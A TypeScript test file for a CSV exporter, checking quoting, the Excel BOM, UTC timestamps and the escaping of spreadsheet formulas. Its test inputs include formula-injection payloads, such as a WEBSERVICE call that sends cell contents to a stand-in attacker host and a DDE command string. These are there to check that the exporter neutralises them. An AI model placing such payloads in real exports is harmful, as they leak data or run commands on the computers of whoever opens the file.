import { CSV, csvField, csvHeader, csvLine, EXCEL_CSV, isoUtc, spreadsheetText } from './csv';

describe('CSV as RFC 4180 writes it', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\r\nlines', '"two\r\nlines"'],
    ['line\nfeed', '"line\nfeed"'],
    ['Müller; Zoë', '"Müller; Zoë"'],
    ['tab\there', '"tab\there"'],
  ])('writes %j as %j', (value, field) => {
    expect(csvField(value)).toBe(field);
  });

  it('quotes a comma and a semicolon in both dialects, and leaves empty what is unset', () => {
    expect(csvLine(['a;b', 'c,d', null, undefined, 3, false], EXCEL_CSV)).toBe('"a;b";"c,d";;;3;false\r\n');
    expect(csvLine(['a;b', 'c,d', null], CSV)).toBe('"a;b","c,d",\r\n');
  });

  it('writes numbers as numbers: a negative one is no formula', () => {
    expect(csvLine([-2, 0.5, '-2'], CSV)).toBe("-2,0.5,'-2\r\n");
  });

  it('starts the Excel variant with the UTF-8 BOM, the standard one without', () => {
    expect(Buffer.from(csvHeader(['a', 'b'], EXCEL_CSV), 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csvHeader(['a', 'b'], CSV)).toBe('a,b\r\n');
  });

  it('writes timestamps as ISO 8601 in UTC', () => {
    expect(isoUtc(new Date('2030-01-02T03:04:05+02:00'))).toBe('2030-01-02T01:04:05.000Z');
    expect(isoUtc('2030-01-02 03:04:05+02')).toBe('2030-01-02T01:04:05.000Z');
    expect(isoUtc(null)).toBeNull();
  });
});

describe('text in a spreadsheet', () => {
  it.each([
    ['=HYPERLINK("https://evil.example";"click")', '\'=HYPERLINK("https://evil.example";"click")'],
    ['+1 555', "'+1 555"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tTab', "'\tTab"],
    ['\rReturn', "'\rReturn"],
    ['  =1+1', "'  =1+1"],
    ['Vertrieb', 'Vertrieb'],
    ['3-5', '3-5'],
    ['a=b', 'a=b'],
    ['erika@example.org', 'erika@example.org'],
    ['', ''],
    // A reader splitting at ',', ';', tabs or lines (Excel in German opening a comma-separated file) starts a cell there.
    ['Acme;=WEBSERVICE("https://evil.example")', 'Acme;\'=WEBSERVICE("https://evil.example")'],
    ['Acme,+cmd|\' /C calc\'!A0', "Acme,'+cmd|' /C calc'!A0"],
    ['Acme; -1', "Acme; '-1"],
    ['Acme\t@SUM(A1)', "Acme\t'@SUM(A1)"],
    ['Acme\r\n=1', "Acme\r\n'=1"],
    ['Acme;;=1;x', "Acme;;'=1;x"],
    ['\t=1', "'\t'=1"],
    ['Müller; Zoë', 'Müller; Zoë'],
  ])('keeps %j from being taken for a formula: %j', (value, safe) => {
    expect(spreadsheetText(value)).toBe(safe);
  });

  it('leaves an empty cell empty', () => {
    expect(spreadsheetText(null)).toBeNull();
  });

  it('csvLine neutralises every text field, then quotes it: no export can forget either', () => {
    expect(csvLine(['Acme;=WEBSERVICE("https://evil.example/?"&A1)', '=1+1', 'ok'], CSV)).toBe(
      '"Acme;\'=WEBSERVICE(""https://evil.example/?""&A1)",\'=1+1,ok\r\n',
    );
    expect(csvLine(['Acme;=WEBSERVICE("x")'], EXCEL_CSV)).toBe('"Acme;\'=WEBSERVICE(""x"")"\r\n');
  });
});
